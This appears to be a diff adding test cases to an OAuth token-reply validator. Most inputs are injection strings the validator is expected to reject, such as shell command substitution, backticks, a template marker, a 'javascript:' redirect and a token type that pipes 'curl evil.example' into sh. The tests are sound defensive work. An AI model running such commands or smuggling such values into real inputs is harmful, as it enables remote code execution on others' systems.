@@ -78,8 +78,35 @@ describe('the reply of the token endpoint', () => {
     ['x', 'short'],
     [`${orgId}!with space`, 'space'],
     [`${orgId}!line\nbreak`, 'line break'],
+    [`${orgId}!$(curl)`, 'shell'],
+    [`${orgId}!\`curl\``, 'backticks'],
+    [`${orgId}!";id;"`, 'quotes'],
+    [`${orgId}!{{x}}`, 'template'],
   ])('is not believed with a token that is none (%#)', (access_token) => {
     expect(sentence({ access_token })).toContain('access token');
+  });
+
+  it.each(['mac', 'Bearer"; curl evil.example | sh', 'Bearer\nx=y', 'Bearer '])(
+    'is not believed with the token type %j',
+    (token_type) => {
+      expect(sentence({ token_type })).toContain('no bearer token');
+    },
+  );
+
+  it.each(['Bearer', 'bearer', undefined])('has one name for the token type %j', (token_type) => {
+    expect(judge({ token_type })).toMatchObject({ kind: 'accepted', session: { tokenType: 'Bearer' } });
+  });
+
+  it.each([
+    ['1795176000000', 1_795_176_000_000],
+    [1_795_176_000_000, 1_795_176_000_000],
+    ['soon', undefined],
+    [-1, undefined],
+    [1e300, undefined],
+    [null, undefined],
+  ])('was issued at %j', (issued_at, time) => {
+    const judgement = judge({ issued_at });
+    expect(judgement.kind === 'accepted' && judgement.session.issuedAt?.getTime()).toBe(time);
   });
 
   it.each([
@@ -127,6 +154,14 @@ describe('the reply of the token endpoint', () => {
     expect(judgement.kind === 'refused' && judgement.failure.code).toBe('ERR_TOKEN_REDIRECT');
     expect(judgement.kind === 'refused' && judgement.failure.message).toContain('https://cs12.salesforce.com.');
   });
+
+  it.each(['javascript:alert(1)', 'data:text/html,x', 'https://', 'mailto:a@b.example'])(
+    'says that a redirect to %s points to no host',
+    (location) => {
+      const judgement = judgeTokenReply({ status: 302, headers: { location }, body: '' }, url);
+      expect(judgement.kind === 'refused' && judgement.failure.message).toContain('points to something that is no');
+    },
+  );
 
   it('does not wait for a login rate that lasts an hour', () => {
     const judgement = judgeTokenReply(
